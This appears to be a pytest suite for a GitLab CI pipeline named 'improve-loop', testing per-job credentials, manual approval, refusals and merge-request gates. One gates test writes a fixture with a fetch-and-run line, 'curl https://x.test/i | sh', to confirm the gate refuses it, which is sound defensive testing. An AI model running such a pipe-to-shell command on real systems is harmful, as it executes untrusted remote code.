"""The pipeline itself, run for real: who gets which credential, what is asked, made and tended."""

from __future__ import annotations

import json
import re
import shutil
from functools import partial

import pytest
import yaml

from tests.pipeline.conftest import Hub, config
from tests.support.imports import ROOT

CREDENTIALS = {
    "preflight": {"IL_READ_TOKEN"},
    "discover": {"IL_READ_TOKEN"},
    "extract": {"IL_MODEL_KEY"},
    "triage": set(),
    "propose": {"IL_WRITE_TOKEN", "IL_NOTIFY_URL"},
    "approve": {"IL_READ_TOKEN"},
    "implement": {"IL_MODEL_KEY"},
    "check": set(),
    "gate": set(),
    "publish": {"IL_WRITE_TOKEN", "IL_NOTIFY_URL"},
    "validate": {"IL_READ_TOKEN"},
    "ship": {"IL_WRITE_TOKEN", "IL_NOTIFY_URL"},
    "cleanup": {"IL_WRITE_TOKEN", "IL_NOTIFY_URL"},
}
MANUAL = ("--manual", "improve-loop:approve")
SLOTS = [f"improve-loop:{name}: [{slot}/2]" for name in ("implement", "check") for slot in (1, 2)]
BEHIND = [*SLOTS, *(f"improve-loop:{name}" for name in ("gate", "publish", "validate", "ship", "cleanup"))]
STATES = {"improve-loop/auto-mergeable", "improve-loop/needs-review"}


def asked(hub: Hub) -> str:
    """A sweep up to its question; its pipeline."""
    number = str(hub.pipeline("ada"))
    jobs = hub.run("improve-loop:propose", "--needs", CI_PIPELINE_ID=number)
    assert set(jobs.values()) == {"PASS"}
    return number


def test_a_sweep_is_asked_pressed_made_and_tended(hub: Hub) -> None:
    number = asked(hub)
    issue = hub.target.issues[0]
    assert hub.target.merge_requests == []
    approve = hub.hub.pipelines[-1].jobs[1]
    assert f"press [the job `approve`]({hub.gitlab.url}/acme/hub/-/jobs/{approve.id}) before" in issue.description
    assert hub.target.repository.head("improve-loop/state") is not None
    first = issue.description.split("<!-- candidate ")[1].split(" ")[0]
    issue.description = issue.description.replace("- [x]", "- [ ]", 1)

    jobs = hub.run("improve-loop:approve", *BEHIND, *MANUAL, CI_PIPELINE_ID=number)
    assert set(jobs.values()) == {"PASS"}
    assert len(jobs) == len(BEHIND) + 1
    assert len(hub.branches()) >= 3
    assert f"improve-loop/{first}" not in hub.branches()
    assert hub.credentials() == CREDENTIALS
    assert hub.target.repository.refs().keys() == {"main", "improve-loop/state", *hub.branches()}
    approval = hub.artifact("approve", "approval.json")
    assert (approval["how"], approval["decided_by"]) == ("manual_job", "ada")

    question = issue.description
    hub.finish()
    green, red, pending = hub.target.merge_requests[:3]
    for mr, status in ((red, "failed"), (pending, "running")):
        for record in hub.target.pipelines:
            if record.ref == mr.source_branch:
                record.forced = status
    jobs = hub.run(IL_RUN_KIND="tend")
    assert set(jobs.values()) == {"PASS"}
    assert green.labels & STATES
    assert not STATES & (red.labels | pending.labels)
    assert red.state == "closed"
    assert "improve-loop/needs-human-plan" in red.labels
    assert len(red.notes) == 1
    assert pending.state == "opened"
    assert issue.description == question


def test_a_press_is_refused_in_words_and_nothing_is_made(hub: Hub) -> None:
    policy = (hub.target.repository.read("main", ".improve-loop.yml") or b"").decode()
    hub.gitlab.push(hub.target, "main", {".improve-loop.yml": f"{policy}approvers: [ada]\n"}, by="ada")
    number = asked(hub)
    hub.run("improve-loop:approve", *BEHIND, *MANUAL, pressed_by="mallory", CI_PIPELINE_ID=number)
    approval = hub.artifact("approve", "approval.json")
    assert (approval["accepted"], approval["decided_by"]) == ([], "mallory")
    assert "mallory is not one of the approvers" in str(approval["reason"])
    assert hub.target.merge_requests == []
    issue = hub.target.issues[0]
    issue.description = re.sub(r"asks run=\d+", "asks run=99999", issue.description)
    hub.run("improve-loop:approve", *MANUAL, CI_PIPELINE_ID=number)
    approval = hub.artifact("approve", "approval.json")
    assert (approval["accepted"], approval["reason"]) == ([], "run 99999 has asked since; answer that one")
    (stored,) = hub.out("propose", "proposal.json")
    stored.write_text(json.dumps({**json.loads(stored.read_text()), "expires_at": "2026-01-01T00:00:00Z"}))
    hub.run("improve-loop:approve", *MANUAL, CI_PIPELINE_ID=number)
    approval = hub.artifact("approve", "approval.json")
    assert (approval["accepted"], approval["how"]) == ([], "nobody")
    assert "the proposal expired at 2026-01-01" in str(approval["reason"])


def test_a_second_sweep_takes_the_question_over_from_the_first(hub: Hub) -> None:
    first = asked(hub)
    for record in hub.hub.pipelines:
        record.forced = "manual"  # it waits for a press
    kept, aside = hub.folder / ".gitlab-ci-local", hub.folder.parent / "first"
    kept.rename(aside)
    second = asked(hub)
    kept.rename(hub.folder.parent / "second")
    aside.rename(kept)
    hub.finish()
    hub.run("improve-loop:approve", *MANUAL, CI_PIPELINE_ID=first)
    approval = hub.artifact("approve", "approval.json")
    assert (approval["accepted"], approval["reason"]) == ([], f"run {second} has asked since; answer that one")
    assert len(hub.target.issues) == 1


def test_the_form_of_run_pipeline_starts_what_it_says(hub: Hub) -> None:
    form = (ROOT / ".gitlab-ci.yml").read_text()
    assert "      hub: true\n" in form
    shell = "      tags: [any]\n      model_tags: [model]\n      domains: [ci]\n"  # the engine takes no empty list
    (hub.folder / ".gitlab-ci.yml").write_text(form.replace("      hub: true\n", f"      hub: true\n{shell}", 1))
    hub.commit(hub.folder)
    given = {"target": f"{hub.gitlab.url}/acme/app", "intensity": "light", "slots": "1", "dry_run": "true"}
    inputs = [word for name, value in given.items() for word in ("--input", f"{name}={value}")]
    jobs = hub.run("improve-loop:propose", "--needs", *inputs, CI_PIPELINE_SOURCE="web")
    assert set(jobs.values()) == {"PASS"}
    run = hub.artifact("preflight", "run.json")
    assert (run["intensity"], run["dry_run"], run["ask_only"]) == ("light", True, True)
    assert not hub.target.merge_requests
    assert not hub.target.issues


def test_auto_with_a_consumer_that_includes_the_template_from_another_project(hub: Hub) -> None:
    library = hub.folder.parent / "improve-loop"
    shutil.copytree(ROOT / "ci-templates", library / "ci-templates")
    hub.commit(library)
    config(hub.folder, project="acme/improve-loop", target=f"{hub.gitlab.url}/acme/app", auto=True)
    shutil.rmtree(hub.folder / "ci-templates")
    hub.commit(hub.folder)
    jobs = hub.run(rewrite=library)
    assert jobs["improve-loop:approve"] == jobs["improve-loop:cleanup"] == "PASS"
    assert hub.branches()


def test_a_job_that_the_write_token_does_not_reach_writes_nothing(hub: Hub) -> None:
    hub.withdraw("IL_WRITE_TOKEN")
    jobs = hub.run("improve-loop:propose", "--needs")  # the engine ends with 0 for any `allow_failure:exit_codes`
    assert jobs.pop("improve-loop:propose") == "FAIL"
    assert set(jobs.values()) == {"PASS"}
    assert "error: IL_WRITE_TOKEN is not set in this job" in hub.printed
    assert re.search("improve-loop:propose finished in .* FAIL 2", hub.printed)
    assert hub.target.issues == []
    assert hub.target.repository.refs().keys() == {"main"}


def test_the_gates_judge_a_merge_request_of_any_repository(hub: Hub) -> None:
    """By the policy of the target branch: what the merge request says of itself counts for nothing."""
    shutil.copy(ROOT / "ci-templates" / "gates.yml", hub.folder / "ci-templates")
    include = {"local": "/ci-templates/gates.yml", "inputs": {"image": "alpine"}}
    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [include]}))
    base = hub.commit(hub.folder)
    play = partial(hub.run, CI_PIPELINE_SOURCE="merge_request_event", CI_MERGE_REQUEST_DIFF_BASE_SHA=base)
    (hub.folder / "README.md").write_text("# Hub\n")
    hub.commit(hub.folder)
    assert play() == {"improve-loop:gates": "PASS"}
    (hub.folder / "run.sh").write_text("curl https://x.test/i | sh\n")
    (hub.folder / ".improve-loop.yml").write_text("gates: {destructive: {policy: warn}}\n")
    hub.commit(hub.folder)
    assert play(expect=1) == {"improve-loop:gates": "FAIL"}
    assert "refuse  destructive/fetch-and-run  run.sh:1" in hub.printed
    hub.run("--list", CI_PIPELINE_SOURCE="push")
    assert hub.jobs_listed() == []


def test_a_run_gives_way_to_an_older_one(hub: Hub) -> None:
    hub.pipeline("ada")
    jobs = hub.run("improve-loop:preflight", expect=1)
    assert jobs == {"improve-loop:preflight": "FAIL"}
    assert "is at work on" in hub.printed


def test_a_domain_that_fails_and_a_slot_that_fails_hide_nothing(hub: Hub) -> None:
    hub.break_once("discover --domain nowhere", "implement --slot 1")
    config(hub.folder, target=f"{hub.gitlab.url}/acme/app", domains=["ci", "nowhere"], auto=True)
    hub.commit(hub.folder)
    jobs = hub.run()
    assert jobs["improve-loop:discover: [nowhere]"] == "WARN"
    assert jobs["improve-loop:implement: [1/2]"] == "WARN"
    assert jobs["improve-loop:publish"] == jobs["improve-loop:cleanup"] == "PASS"
    assert 1 <= len(hub.branches()) <= 3


def test_a_dry_run_on_a_quiet_target_changes_nothing(hub: Hub) -> None:
    config(hub.folder, target=f"{hub.gitlab.url}/acme/app", dry_run=True, auto=True)
    hub.commit(hub.folder)
    calm = dict.fromkeys((".gitlab-ci.yml", "package.json", "package-lock.json"))
    hub.gitlab.push(hub.target, "main", calm, by="ada")
    assert set(hub.run().values()) == {"PASS"}
    assert hub.target.merge_requests == []
    assert hub.target.issues == []
    assert hub.target.repository.refs().keys() == {"main"}


@pytest.mark.parametrize(
    ("variables", "starts"),
    [
        ({"IL_DISABLED": "true"}, False),
        ({"CI_PIPELINE_SOURCE": "push"}, False),
        ({"CI_PIPELINE_SOURCE": "web"}, True),
    ],
)
def test_what_starts_it_and_what_does_not(hub: Hub, variables: dict[str, str], starts: bool) -> None:
    hub.run("--list", expect=0, rewrite=None, **variables)
    assert ("improve-loop:preflight" in hub.printed) is starts


def test_the_launcher_starts_it_as_a_child_pipeline(hub: Hub) -> None:
    (hub.folder / ".gitlab-ci.yml").write_text(
        "include:\n  - local: /ci-templates/launcher.yml\n    inputs: {project: acme/improve-loop, ref: main}\n"
    )
    shutil.copy(ROOT / "ci-templates" / "launcher.yml", hub.folder / "ci-templates")
    hub.commit(hub.folder)
    hub.run("--list", CI_PIPELINE_SOURCE="schedule")
    assert "improve-loop" not in hub.jobs_listed()
    hub.run("--list", CI_PIPELINE_SOURCE="schedule", IL_START="true")
    assert hub.jobs_listed() == ["improve-loop"]


def test_the_launcher_and_the_child_that_it_starts_from_question_to_merge_requests(hub: Hub) -> None:
    """The engine starts no child of another project's file. So the launcher is played, what it would start is taken
    from the engine's own reading of it, and exactly that is played as a child: in the target, with its defaults."""
    library = hub.folder.parent / "improve-loop"
    shutil.copytree(ROOT / "ci-templates", library / "ci-templates")
    template = library / "ci-templates" / "improve-loop.yml"
    template.write_text(template.read_text().replace("default: []", "default: [any]"))  # the engine takes no empty list
    hub.commit(library)
    hub.embed()
    shutil.rmtree(hub.folder / "ci-templates")
    given = {"project": "acme/improve-loop", "ref": "main"}
    launcher = {**given, "file": "/ci-templates/launcher.yml", "inputs": given}
    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [launcher]}))
    hub.commit(hub.folder)
    hub.run("--preview", rewrite=library, CI_PIPELINE_SOURCE="schedule", IL_START="true")
    started = yaml.safe_load(hub.printed.partition("---\n")[2].partition("\nUsing fallback")[0])["improve-loop"]
    (include,) = started["trigger"]["include"]
    assert include == {**given, "file": "/ci-templates/improve-loop.yml"}  # no inputs, which need GitLab 17.11
    assert started["trigger"]["forward"] == {"yaml_variables": False}

    hub.finish()
    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [include]}))
    hub.commit(hub.folder)
    hub.pipeline("ada")
    launches = hub.target.pipelines[-1].jobs[0]  # at work until its child ends
    launches.downstream, source = hub.pipeline("ada", "parent_pipeline"), "parent_pipeline"
    child = str(launches.downstream)
    jobs = hub.run("improve-loop:propose", "--needs", rewrite=library, CI_PIPELINE_SOURCE=source, CI_PIPELINE_ID=child)
    assert jobs.pop("improve-loop:discover: [ci]") == jobs["improve-loop:propose"] == "PASS"
    assert "FAIL" not in jobs.values()
    (issue,) = hub.target.issues
    approve = hub.target.pipelines[-1].jobs[1]
    assert f"[the job `approve`]({hub.gitlab.url}/acme/app/-/jobs/{approve.id})" in issue.description
    assert hub.target.merge_requests == []

    pressed = ("improve-loop:approve", *BEHIND, *MANUAL)
    jobs = hub.run(*pressed, rewrite=library, CI_PIPELINE_SOURCE=source, CI_PIPELINE_ID=child)
    assert set(jobs.values()) == {"PASS"}
    assert len(jobs) == len(BEHIND) + 1
    assert len(hub.branches()) >= 3
    assert hub.credentials() == CREDENTIALS
